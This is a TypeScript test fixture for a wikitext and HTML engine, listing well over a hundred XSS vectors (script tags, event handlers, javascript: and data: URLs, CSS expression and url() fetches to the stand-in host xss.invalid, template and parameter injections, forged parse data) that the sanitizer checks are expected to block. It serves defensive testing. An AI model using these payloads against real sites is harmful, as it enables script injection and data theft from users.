// Known XSS vectors for the sanitizer checks. Every vector, if it got through, would call one of
// the functions the browser probe watches (alert, confirm, prompt, print or xssProbe) or fetch
// from the host xss.invalid. Each names the route its input takes into the engine:
// - "wikitext": converted by wt2html as a page's source;
// - "template": the page transcludes templates whose sources carry the payload (or passes it as
//   a parameter), so the markup is produced by template expansion;
// - "html": HTML a client sends to html2wt; the resulting wikitext is converted back to HTML.
import type { FixturePage } from "../../packages/wikitext/src/testing/index.js";

export interface XssVector {
  name: string;
  route: "wikitext" | "template" | "html";
  input: string;
  /** Template (or other page) sources the input transcludes. */
  pages?: FixturePage[];
}

/** Host that vectors try to make the page fetch from (a CSS url(), an image, an import). */
export const EXFIL_HOST = "xss.invalid";

const A = "alert(1)";
const P = "xssProbe()";

/** Payloads written as raw markup: each goes through wikitext and through HTML input. */
const MARKUP_PAYLOADS: Array<[string, string]> = [
  ["script tag", `<script>${P}</script>`],
  ["script tag, uppercase", `<SCRIPT>${A}</SCRIPT>`],
  ["script with src", `<script src="http://${EXFIL_HOST}/x.js"></script>`],
  ["split script tag", `<scr<script>ipt>${P}</scr</script>ipt>`],
  ["script in a comment-broken tag", `<scr<!-- -->ipt>${P}</script>`],
  ["img onerror", `<img src=x onerror=${P}>`],
  ["img onerror, entity-encoded handler", `<img src=x onerror="&#120;ssProbe()">`],
  ["svg onload", `<svg onload=${P}></svg>`],
  ["svg script", `<svg><script>${P}</script></svg>`],
  ["svg animate href", `<svg><a><animate attributeName=href values=javascript:${P} /><text y=20>x</text></a></svg>`],
  ["math with xlink:href", `<math><maction actiontype="statusline" xlink:href="javascript:${P}">x</maction></math>`],
  ["math mglyph style breakout", `<math><mtext><table><mglyph><style><img src=x onerror=${P}></style></mglyph></table></mtext></math>`],
  ["body onload", `<body onload=${P}>`],
  ["div onmouseover", `<div onmouseover="${P}">hover</div>`],
  ["span onclick", `<span onclick=${P}>click</span>`],
  ["b onfocus with tabindex", `<b tabindex=0 onfocus=${P} autofocus>x</b>`],
  ["handler with a slash separator", `<div/onmouseover=${P}>x</div>`],
  ["handler after an unclosed attribute", `<div title="x onmouseover=${P} y">x</div>`],
  ["unclosed attribute quote", `<div title="x>y</div><div onmouseover=${P}>z</div>`],
  ["attribute with newline before the handler", `<div\nonmouseover=${P}>x</div>`],
  ["handler with a backtick", "<div onmouseover=`xssProbe()`>x</div>"],
  ["comment inside a tag", `<div <!-- x --> onmouseover=${P}>x</div>`],
  ["a href javascript", `<a href="javascript:${P}">x</a>`],
  ["iframe", `<iframe src="javascript:${P}"></iframe>`],
  ["iframe srcdoc", `<iframe srcdoc="<script>parent.${P}</script>"></iframe>`],
  ["object data", `<object data="javascript:${P}"></object>`],
  ["embed", `<embed src="javascript:${P}">`],
  ["form action", `<form action="javascript:${P}"><button>x</button></form>`],
  ["button formaction", `<button formaction="javascript:${P}">x</button>`],
  ["input autofocus onfocus", `<input autofocus onfocus=${P}>`],
  ["details ontoggle", `<details open ontoggle=${P}>x</details>`],
  ["video source onerror", `<video><source onerror=${P}></video>`],
  ["meta refresh", `<meta http-equiv="refresh" content="0;url=javascript:${P}">`],
  ["base href", `<base href="javascript:${P}//">`],
  ["link import", `<link rel=stylesheet href="http://${EXFIL_HOST}/x.css">`],
  ["style element", `<style>body{background:url(http://${EXFIL_HOST}/s)}</style>`],
  ["style with expression", `<div style="width: expression(${P})">x</div>`],
  ["style expression with comment", `<div style="width: expr/* */ession(${P})">x</div>`],
  ["style expression entity-escaped", `<div style="width: expr&#x65;ssion(${P})">x</div>`],
  ["style expression css-escaped", `<div style="width: expr\\65 ssion(${P})">x</div>`],
  ["style url", `<div style="background: url(http://${EXFIL_HOST}/u)">x</div>`],
  ["style url css-escaped", `<div style="background: \\75 rl(http://${EXFIL_HOST}/e)">x</div>`],
  ["style url fullwidth", `<div style="background: ｕｒｌ(http://${EXFIL_HOST}/f)">x</div>`],
  ["style image-set", `<div style="background-image: image-set('http://${EXFIL_HOST}/i' 1x)">x</div>`],
  ["style import", `<div style="@import 'http://${EXFIL_HOST}/imp';">x</div>`],
  ["style javascript url", `<div style="background:url(javascript:${P})">x</div>`],
  ["style behavior", `<div style="behavior: url(http://${EXFIL_HOST}/b.htc)">x</div>`],
  ["style -moz-binding", `<div style="-moz-binding: url(http://${EXFIL_HOST}/b.xml#x)">x</div>`],
  ["style breaking out of its quote", `<div style='color:red" onmouseover="${P}'>x</div>`],
  ["blockquote cite javascript", `<blockquote cite="javascript:${P}">x</blockquote>`],
  ["tab inside the scheme", `<a href="jav&#x09;ascript:${P}">x</a>`],
  ["decimal entity scheme", `<span itemscope itemtype="&#106;avascript:${P}">x</span>`],
  ["data URL in a q cite", `<q cite="data:text/html,<script>${P}</script>">x</q>`],
  ["vbscript URL", `<blockquote cite="vbscript:msgbox(1)">x</blockquote>`],
  ["data- attribute forging parse data", `<span data-mw='{"parts":["<script>${P}</script>"]}'>x</span>`],
  ["typeof forging a template", `<span typeof="mw:Transclusion" data-mw='{"parts":[{"template":{"target":{"wt":"<script>${P}</script>"}}}]}'>x</span>`],
  ["xmlns attribute", `<span xmlns:x="javascript:${P}" onmouseover=${P}>x</span>`],
  ["noscript breakout", `<noscript><p title="</noscript><img src=x onerror=${P}>"></noscript>`],
  ["textarea breakout", `<textarea></textarea><img src=x onerror=${P}></textarea>`],
  ["title breakout", `<title></title><img src=x onerror=${P}>`],
  ["nul inside a tag name", `<scr\u0000ipt>${P}</script>`],
  ["entity-encoded tag", `&lt;script&gt;${P}&lt;/script&gt;`],
  ["marquee onstart", `<marquee onstart=${P}>x</marquee>`],
  ["font with handler", `<font color=red onmouseover=${P}>x</font>`],
  ["table cell handler", `<table><tr><td onmouseover=${P}>x</td></tr></table>`],
];

/** Payloads that only wikitext can write (link, table, list and extension syntax). */
const WIKITEXT_PAYLOADS: Array<[string, string]> = [
  ["external link javascript", `[javascript:${P} click]`],
  ["external link vbscript", "[vbscript:msgbox(1) click]"],
  ["external link data", `[data:text/html;base64,PHNjcmlwdD54c3NQcm9iZSgpPC9zY3JpcHQ+ click]`],
  ["external link with quote breakout", `[http://example.org/"onmouseover="${P}" x]`],
  ["bare URL with quote breakout", `http://example.org/"onmouseover="${P}"`],
  ["external link with entity quote", `[http://example.org/&quot;onmouseover=&quot;${P} x]`],
  ["wikilink to javascript", `[[javascript:${P}|x]]`],
  ["wikilink with quote", `[[Foo"onmouseover="${P}|x]]`],
  ["image link javascript", `[[File:Foobar.jpg|link=javascript:${P}]]`],
  ["image link with entity scheme", `[[File:Foobar.jpg|link=&#106;avascript:${P}]]`],
  ["image alt breakout", `[[File:Foobar.jpg|alt=" onerror="${P}]]`],
  ["image caption markup", `[[File:Foobar.jpg|thumb|<img src=x onerror=${P}>]]`],
  ["table attribute handler", `{| onmouseover="${P}"\n| x\n|}`],
  ["table cell attribute handler", `{|\n| onmouseover="${P}" | x\n|}`],
  ["table cell style expression", `{|\n| style="width:expression(${P})" | x\n|}`],
  ["table row handler", `{|\n|- onclick=${P}\n| x\n|}`],
  ["table cell javascript background", `{|\n| background="javascript:${P}" | x\n|}`],
  ["ref with handler", `x<ref name="a" onmouseover="${P}">y</ref>\n<references/>`],
  ["ref name breakout", `x<ref name='"><img src=x onerror=${P}>'>y</ref>\n<references/>`],
  ["nowiki holding a script", `<nowiki><script>${P}</script></nowiki>`],
  ["pre holding a handler", `<pre onmouseover=${P}>x</pre>`],
  ["poem with a script", `<poem><script>${P}</script></poem>`],
  ["syntaxhighlight with a script", `<syntaxhighlight lang="html"><script>${P}</script></syntaxhighlight>`],
  ["heading with a script", `== <script>${P}</script> ==`],
  ["list item handler", `* <span onmouseover=${P}>x</span>`],
  ["#tag script", `{{#tag:script|${P}}}`],
  ["#tag span with handler", `{{#tag:span|x|onmouseover=${P}}}`],
  ["#tag ref with handler", `{{#tag:ref|x|onmouseover=${P}}}\n<references/>`],
  ["#tag nowiki", `{{#tag:nowiki|<script>${P}</script>}}`],
  ["#if producing a script", `{{#if:1|<script>${P}</script>}}`],
  ["magic link with a quote", `ISBN 0-306-40615-2"onmouseover="${P}"`],
  ["signature-like markup", `[[User:X|<span onmouseover=${P}>x</span>]]`],
  ["category sort key", `[[Category:X|"onmouseover="${P}]]`],
  ["language converter", `-{<script>${P}</script>}-`],
  ["displaytitle", `{{DISPLAYTITLE:<script>${P}</script>}}`],
  ["protocol-relative external link to a script URL", `[//javascript:${P} x]`],
  ["image link to a data URL", `[[File:Foobar.jpg|link=data:text/html,<script>${P}</script>]]`],
  ["image link to a vbscript URL", "[[File:Foobar.jpg|link=vbscript:msgbox(1)]]"],
  ["media link with a script URL caption", `[[Media:Foobar.jpg|<span onmouseover=${P}>x</span>]]`],
  ["interwiki link with a script URL", `[[wikipedia:javascript:${P}|x]]`],
  ["external link with a tab in the scheme", `[java	script:${P} x]`],
  ["#tag img", `{{#tag:img||src=x|onerror=${P}}}`],
  ["#tag with a style expression", `{{#tag:span|x|style=width:expression(${P})}}`],
  ["gallery caption with a handler", `<gallery>
File:Foobar.jpg|<span onmouseover=${P}>x</span>
</gallery>`],
  ["gallery image link", `<gallery>
File:Foobar.jpg|link=javascript:${P}
</gallery>`],
  ["heading id injection", `== x" onmouseover="${P} ==`],
  ["anchor link with a quote", `[[#x" onmouseover="${P}|y]]`],
];

/** Templates whose sources carry payloads, and pages that transclude them. */
const TEMPLATE_VECTORS: Array<{ name: string; input: string; pages: FixturePage[] }> = [
  { name: "template holding a script", input: "{{Evil}}", pages: [{ title: "Template:Evil", text: `<script>${P}</script>` }] },
  { name: "template holding a handler", input: "{{Evil}}", pages: [{ title: "Template:Evil", text: `<div onmouseover="${P}">x</div>` }] },
  {
    name: "attribute injection through a parameter",
    input: `{{Box|1=x" onmouseover="${P}}}`,
    pages: [{ title: "Template:Box", text: '<div class="{{{1}}}">box</div>' }],
  },
  {
    name: "style injection through a parameter",
    input: `{{Styled|c=red; width: expression(${P})}}`,
    pages: [{ title: "Template:Styled", text: '<span style="color: {{{c}}}">x</span>' }],
  },
  {
    name: "url injection through a parameter",
    input: `{{Link|u=javascript:${P}}}`,
    pages: [{ title: "Template:Link", text: "[{{{u}}} go]" }],
  },
  {
    name: "handler name built from parameters",
    input: `{{Build|a=on|b=mouseover|c=${P}}}`,
    pages: [{ title: "Template:Build", text: '<div {{{a}}}{{{b}}}="{{{c}}}">x</div>' }],
  },
  {
    name: "tag name split across templates",
    input: `{{Open}}${P}{{Close}}`,
    pages: [
      { title: "Template:Open", text: "<scr" },
      { title: "Template:Close", text: "ipt>" },
    ],
  },
  {
    name: "tag opened in a template, attributes from the page",
    input: `{{Lt}}img src=x onerror=${P}>`,
    pages: [{ title: "Template:Lt", text: "<" }],
  },
  {
    name: "table cell attributes from a parameter",
    input: `{{Cell|onmouseover="${P}"}}`,
    pages: [{ title: "Template:Cell", text: "{|\n| {{{1}}} | x\n|}" }],
  },
  {
    name: "#tag in a template with a parameter",
    input: `{{Tagger|script|${P}}}`,
    pages: [{ title: "Template:Tagger", text: "{{#tag:{{{1}}}|{{{2}}}}}" }],
  },
  {
    name: "image link from a parameter",
    input: `{{Img|javascript:${P}}}`,
    pages: [{ title: "Template:Img", text: "[[File:Foobar.jpg|link={{{1}}}]]" }],
  },
  {
    name: "entity-split scheme from parameters",
    input: `{{Url|jav|ascript:${P}}}`,
    pages: [{ title: "Template:Url", text: '<blockquote cite="{{{1}}}&#x09;{{{2}}}">x</blockquote>' }],
  },
];

/** HTML that only the HTML route can send (Parsoid markup with forged parse data). */
const HTML_ONLY_PAYLOADS: Array<[string, string]> = [
  ["forged extension output", `<span typeof="mw:Extension/nowiki" data-mw='{"name":"nowiki","body":{"extsrc":"</nowiki><script>${P}</script>"}}'>x</span>`],
  ["forged transclusion wikitext", `<p about="#mwt1" typeof="mw:Transclusion" data-mw='{"parts":["<img src=x onerror=${P}>"]}'>x</p>`],
  ["forged external link", `<a rel="mw:ExtLink" href="javascript:${P}">x</a>`],
  ["forged wiki link", `<a rel="mw:WikiLink" href="javascript:${P}">x</a>`],
  ["forged image link", `<figure typeof="mw:File"><a href="javascript:${P}"><img src="x" onerror="${P}"></a></figure>`],
  ["forged raw html in data-parser", `<p data-parser='{"src":"<script>${P}</script>"}'>x</p>`],
  ["forged nowiki", `<span typeof="mw:Nowiki"><script>${P}</script></span>`],
  ["forged attribute source", `<div data-parser='{"sa":{"onmouseover":"${P}"}}' onmouseover="${P}">x</div>`],
];

export const XSS_VECTORS: readonly XssVector[] = [
  ...MARKUP_PAYLOADS.map(([name, input]): XssVector => ({ name: `wikitext: ${name}`, route: "wikitext", input })),
  ...WIKITEXT_PAYLOADS.map(([name, input]): XssVector => ({ name: `wikitext: ${name}`, route: "wikitext", input })),
  ...TEMPLATE_VECTORS.map(({ name, input, pages }): XssVector => ({ name: `template: ${name}`, route: "template", input, pages })),
  ...MARKUP_PAYLOADS.map(([name, input]): XssVector => ({ name: `html: ${name}`, route: "html", input })),
  ...HTML_ONLY_PAYLOADS.map(([name, input]): XssVector => ({ name: `html: ${name}`, route: "html", input })),
];
